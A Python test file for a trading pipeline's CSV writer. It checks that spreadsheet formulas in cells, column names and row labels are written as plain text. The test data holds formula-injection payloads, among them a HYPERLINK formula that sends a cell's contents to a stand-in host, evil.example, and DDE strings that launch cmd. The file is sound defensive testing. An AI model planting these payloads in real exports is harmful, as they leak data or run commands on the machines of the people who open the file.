"""CSV files: what is a formula to a spreadsheet is a text in them; all else is as it was."""

import ast
from pathlib import Path

import pandas as pd
import pytest

import trading_pipeline
from trading_pipeline.adapters.reports.csv_file import csv_of, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"AAPL")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1",
    "AAPL\r=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_symbol_that_is_a_formula_is_a_text(tmp_path, formula):
    """As a cell, as the name of a column, and as that of a row."""
    table = pd.DataFrame({"symbol": [formula, "IBM"], formula: [1.5, -2.5]}, index=[formula, "IBM"])
    write_csv(table, tmp_path / "trades.csv", index=True)
    read = pd.read_csv(tmp_path / "trades.csv", index_col=0)
    told = formula.replace("\r", "\n") if "\r" in formula else f"'{formula}"
    assert list(read["symbol"]) == [told, "IBM"]
    assert list(read.columns) == ["symbol", told]
    assert list(read.index) == [told, "IBM"]


def test_all_else_is_written_as_pandas_does():
    days = pd.to_datetime(["2024-01-02", "2024-01-03"], utc=True)
    table = pd.DataFrame(
        {"at": days, "symbol": ["BTC/USDT", "ES=F"], "net": [-1.5, None], "said": ["-1.5", None]}
    )
    assert csv_of(table) == table.to_csv(index=False, lineterminator="\n").encode()


@pytest.mark.slow
def test_every_csv_file_is_written_here():
    """Else the next one that is added is not."""
    folder = Path(trading_pipeline.__file__).parent
    calls = {
        path.name
        for path in folder.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert calls == {"csv_file.py"}
